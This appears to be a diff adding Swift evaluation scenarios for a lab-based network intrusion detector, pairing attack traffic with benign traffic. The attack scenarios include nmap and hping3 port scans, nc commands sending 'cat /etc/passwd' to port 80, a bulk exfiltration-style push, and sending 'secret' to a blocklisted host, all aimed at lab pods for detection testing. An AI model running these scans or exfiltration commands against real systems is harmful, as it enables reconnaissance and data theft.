@@ -1,0 +1,104 @@
+import Foundation
+import PodwallLab
+
+/// The lab an evaluation runs in: who attacks, who is attacked, who serves.
+public struct EvalPods: Sendable {
+    public let lab: Lab
+    public let attacker: Lab.Pod
+    public let victim: Lab.Pod
+    public let web: Lab.Pod
+    /// Gets `Lab.internetAddress2:8088` traffic only through a hole in the blocklist.
+    public static let blockedAddress = Lab.internetAddress2
+    public static let blockedSink = "/tmp/podwall-eval-blocked-sink"
+}
+
+/// One thing that happens in the lab, with the alert it should (or should not) raise.
+public struct EvalScenario: Sendable {
+    public let name: String
+    /// The alert kind expected; nil: benign, no alert at all.
+    public let expected: String?
+    /// Tools it needs (skipped, and said so, when one is missing).
+    public let tools: [String]
+    public let play: @Sendable (EvalPods) throws -> Void
+
+    public static func attack(_ name: String, _ expected: String, tools: [String], _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
+        EvalScenario(name: name, expected: expected, tools: tools, play: play)
+    }
+
+    public static func benign(_ name: String, tools: [String], _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
+        EvalScenario(name: name, expected: nil, tools: tools, play: play)
+    }
+}
+
+extension EvalScenario {
+    static func nmap(_ pods: EvalPods, _ arguments: [String]) throws {
+        try pods.lab.inPod(pods.attacker, ["nmap", "-Pn", "-n", "--max-retries", "0", "--host-timeout", "8s"] + arguments, check: false)
+    }
+
+    static func sendToPort80(_ pods: EvalPods, _ printfFormat: String) throws {
+        try pods.lab.inPod(pods.attacker, ["sh", "-c", "printf '\(printfFormat)' | nc -q 1 -w 2 \(Lab.internetAddress) 80"], check: false)
+    }
+
+    /// Every scenario, attacks first.
+    public static let all: [EvalScenario] = [
+        attack("nmap connect scan, vertical", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sT", "-p", "1-1000", $0.victim.ipv4]) },
+        attack("nmap SYN scan, vertical", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-p", "1-1000", $0.victim.ipv4]) },
+        attack("nmap SYN scan in 8-byte fragments", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-f", "-p", "1-500", $0.victim.ipv4]) },
+        attack("nmap SYN scan, slower timing (-T2)", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sS", "-T2", "-p", "1-40", $0.victim.ipv4]) },
+        attack("nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"]) {
+            try nmap($0, ["-sT", "-T5", "-p", "80", "198.19.1.0/24"])
+        },
+        attack("nmap UDP scan", "port_scan", tools: ["nmap"]) { try nmap($0, ["-sU", "-T5", "-p", "1-200", $0.victim.ipv4]) },
+        attack("hping3 SYN sweep of 150 ports", "port_scan", tools: ["hping3"]) { pods in
+            // -n: no reverse lookup, which would hang on a pod without DNS.
+            try pods.lab.inPod(pods.attacker, Shell.withSignalsUnblocked(
+                ["timeout", "-s", "KILL", "5", "hping3", "-n", "-S", "-p", "++1", "-c", "150", "-i", "u3000", pods.victim.ipv4]), check: false)
+        },
+        attack("SSH banner to port 80", "protocol_mismatch", tools: ["nc"]) { try sendToPort80($0, "SSH-2.0-OpenSSH_9.2\\r\\n") },
+        attack("TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"]) {
+            try sendToPort80($0, "\\026\\003\\001\\000\\245\\001\\000\\000\\241\\003\\003\\125\\125\\125\\125\\125\\125\\125\\125")
+        },
+        attack("shell commands to port 80", "protocol_mismatch", tools: ["nc"]) { try sendToPort80($0, "id; uname -a; cat /etc/passwd\\n") },
+        attack("bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"]) { pods in
+            for _ in 0..<10 {
+                try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
+                usleep(500_000)
+            }
+            try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
+        },
+        attack("connection to a blocklisted address", "blocklist_hit", tools: ["nc"]) { pods in
+            try pods.lab.inPod(pods.attacker, ["sh", "-c", "echo secret | nc -q 1 -w 2 \(EvalPods.blockedAddress) 8088"], check: false)
+        },
+        benign("HTTP/1.1 requests on port 80", tools: ["curl"]) { pods in
+            let url = "http://\(pods.web.ipv4)/"
+            try pods.lab.inPod(pods.attacker, ["curl", "-s", "-o", "/dev/null", "--max-time", "3", url, url, url, url], check: false)
+        },
+        benign("HTTP/2 prior-knowledge client on port 80 (the server answers HTTP/0.9-style)", tools: ["curl"]) { pods in
+            try pods.lab.inPod(pods.attacker, ["curl", "-s", "-o", "/dev/null", "--max-time", "3", "--http2-prior-knowledge",
+                                               "http://\(pods.web.ipv4)/"], check: false)
+        },
+        benign("DNS-like UDP queries", tools: ["nc"]) { pods in
+            for _ in 0..<5 {
+                try pods.lab.inPod(pods.attacker, ["sh", "-c", "printf '\\022\\064\\001\\000\\000\\001' | nc -u -q 0 -w 1 \(pods.web.ipv4) 53"],
+                                   check: false)
+            }
+        },
+        benign("steady iperf3 bulk flow", tools: ["iperf3"]) { pods in
+            try pods.lab.inPod(pods.attacker, ["iperf3", "-c", pods.web.ipv4, "-p", "5301", "-t", "3"], check: false)
+        },
+        benign("health-check polling across pods", tools: ["curl"]) { pods in
+            for _ in 0..<5 {
+                for target in [pods.web, pods.victim] {
+                    try pods.lab.inPod(pods.attacker, ["curl", "-s", "-o", "/dev/null", "--max-time", "1", "http://\(target.ipv4)/healthz"],
+                                       check: false)
+                }
+            }
+        },
+        benign("a client retrying a refused connection", tools: ["nc"]) { pods in
+            for _ in 0..<3 {
+                try pods.lab.inPod(pods.attacker, ["nc", "-z", "-w", "1", pods.web.ipv4, "8081"], check: false)
+                usleep(200_000)
+            }
+        },
+    ]
+}
